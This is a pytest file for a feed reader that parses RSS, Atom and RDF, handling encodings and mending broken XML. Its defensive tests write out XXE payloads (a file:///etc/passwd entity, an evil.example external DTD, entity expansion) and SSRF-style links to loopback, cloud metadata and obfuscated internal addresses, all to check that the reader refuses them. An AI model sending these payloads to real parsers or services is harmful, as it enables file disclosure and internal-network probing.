from pathlib import Path

import pytest
from extract_building import read

from dossier_etl.extract.addresses import public_web

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>The Pier</title><link>https://pier.example/news/</link><language>en-gb</language>
<item><title>Lamps &amp; oil</title><link>lamps</link><pubDate>Wed, 01 May 2024 10:00:00 GMT</pubDate>
<dc:creator>A. Mole</dc:creator><description>Short.</description>
<content:encoded><![CDATA[<p>The lamps were lit.</p><p>Oil came late.</p>]]></content:encoded></item>
<item><title>Second</title><guid>https://pier.example/2</guid><description>Only a &lt;b&gt;summary&lt;/b&gt;.</description></item>
</channel></rss>"""

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://pier.example/"><title>Atom Pier</title>
<link rel="self" href="https://pier.example/feed.xml"/><link href="https://pier.example/"/>
<entry><title>Entry</title><link rel="edit" href="/edit/1"/><link href="/1"/><published>2024-05-01T10:00:00Z</published>
<updated>2024-05-02T10:00:00Z</updated><author><name>B. Pier</name></author>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>One &amp; two.</p><a href="/x">x</a></div></content></entry></feed>"""

RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Old</title></channel>
<item rdf:about="https://old.example/1"><title>T</title><link>https://old.example/1</link>
<description>Plain words.</description><dc:date>2004-05-01</dc:date></item></rdf:RDF>"""


def test_rss_entries_carry_their_full_content_and_hints(tmp_path: Path) -> None:
    result = read(RSS.encode(), tmp_path, "a.xml")
    first, second = result.records
    assert first.content == b"<p>The lamps were lit.</p><p>Oil came late.</p>" and first.media_type == "text/html"
    assert (first.url, first.locator) == ("https://pier.example/news/lamps", "entry:1")
    assert first.hints == {
        "title": "Lamps & oil",
        "date": "Wed, 01 May 2024 10:00:00 GMT",
        "authors": "A. Mole",
        "language": "en-gb",
        "feed_title": "The Pier",
        "feed_url": "https://pier.example/news/",
        "row.content": "full",
    }
    assert second.content == b"Only a <b>summary</b>." and second.hints["row.content"] == "summary"
    assert second.url == "https://pier.example/2" and not result.incidents


def test_atom_entries(tmp_path: Path) -> None:
    record = read(ATOM.encode(), tmp_path, "a.atom").records[0]
    assert record.content == b'<div><p>One &amp; two.</p><a href="/x">x</a></div>'
    assert (record.url, record.hints["authors"]) == ("https://pier.example/1", "B. Pier")
    assert (record.hints["date"], record.hints["modified"]) == ("2024-05-01T10:00:00Z", "2024-05-02T10:00:00Z")


def test_rdf_entries(tmp_path: Path) -> None:
    record = read(RDF.encode(), tmp_path, "a.rdf").records[0]
    assert (record.content, record.media_type, record.hints["date"]) == (b"Plain words.", "text/plain", "2004-05-01")


@pytest.mark.parametrize(
    "codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-32", "windows-1251", "koi8-r", "big5", "euc-kr"]
)
def test_feeds_are_read_in_the_encoding_they_name(tmp_path: Path, codec: str) -> None:
    title = {"windows-1251": "Маяк", "koi8-r": "Маяк", "big5": "燈塔", "euc-kr": "등대"}.get(codec, "Fárola")
    text = f'<?xml version="1.0" encoding="{codec}"?><rss><channel><item><title>{title}</title></item></channel></rss>'
    result = read(text.encode(codec), tmp_path, "a.xml")
    assert result.records[0].hints["title"] == title and not result.incidents


def test_a_feed_in_another_encoding_than_it_names_is_guessed_and_told(tmp_path: Path) -> None:
    body = "Смотритель маяка сказал, что море спокойно, и зажёг лампу. " * 5
    text = f'<?xml version="1.0" encoding="utf-8"?><rss><channel><item><description>{body}</description></item></channel></rss>'
    result = read(text.encode("windows-1251"), tmp_path, "a.xml")
    assert result.contents[0].decode().startswith("Смотритель") and result.kinds == ["bad_bytes"]


@pytest.mark.parametrize(
    "broken",
    [
        RSS.replace("</channel></rss>", ""),
        RSS.replace("Lamps &amp; oil", "Lamps & oil"),
        RSS.replace("</title><guid>", "<guid>"),
        RSS.replace("Short.", "Short&nbsp;one.\x0b"),
        RSS.replace(' xmlns:dc="http://purl.org/dc/elements/1.1/"', ""),
    ],
)
def test_broken_xml_is_mended_and_told(tmp_path: Path, broken: str) -> None:
    result = read(broken.encode(), tmp_path, "a.xml")
    assert len(result.records) == 2 and result.records[0].hints["title"] == "Lamps & oil"
    assert result.kinds == ["xml_damaged"]


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    ],
)
@pytest.mark.parametrize("end", ["</channel></rss>", ""])
def test_declared_entities_are_refused(tmp_path: Path, doctype: str, end: str) -> None:
    data = f'<?xml version="1.0"?>{doctype}<rss><channel><item><title>&x;&b;</title></item>{end}'
    result = read(data.encode(), tmp_path, "a.xml")
    assert result.kinds == ["xml_entities"] and not result.records


def test_a_dtd_elsewhere_is_neither_fetched_nor_an_obstacle(tmp_path: Path) -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.example/rss-0.91.dtd">'
    data = f'<?xml version="1.0"?>{doctype}<rss><channel><item><title>t</title></item></channel></rss>'
    assert read(data.encode(), tmp_path, "a.xml").records[0].hints["title"] == "t"


@pytest.mark.parametrize(
    "link",
    [
        "http://127.0.0.1:22/",
        "http://169.254.169.254/latest",
        "file:///etc/passwd",
        "gopher://x",
        "http://[::1]/",
        "http://0x7f000001/",
        "http://2130706433/",
        "http://10.1.2.3/",
        "https://pier.example@127.0.0.1/",
        "http://localhost.localdomain/",
        "javascript:alert(1)",
        "http://[bad/",
    ],
)
def test_links_that_are_no_public_page_are_kept_as_a_hint_only(tmp_path: Path, link: str) -> None:
    assert not public_web(link)
    data = f"<rss><channel><item><title>t</title><link>{link}</link></item></channel></rss>"
    record = read(data.encode(), tmp_path, "a.xml").records[0]
    assert record.url is None and record.hints["link"] == link


def test_public_pages_are_public() -> None:
    for url in ("https://pier.example/x", "http://8.8.8.8/", "HTTPS://PIER.EXAMPLE", "https://7news.example/"):
        assert public_web(url)


def test_xml_that_is_no_feed_is_refused(tmp_path: Path) -> None:
    result = read(b'<?xml version="1.0"?><catalog><book/></catalog>', tmp_path, "a.xml")
    assert [r.refused for r in result.records] == ["not_text"]
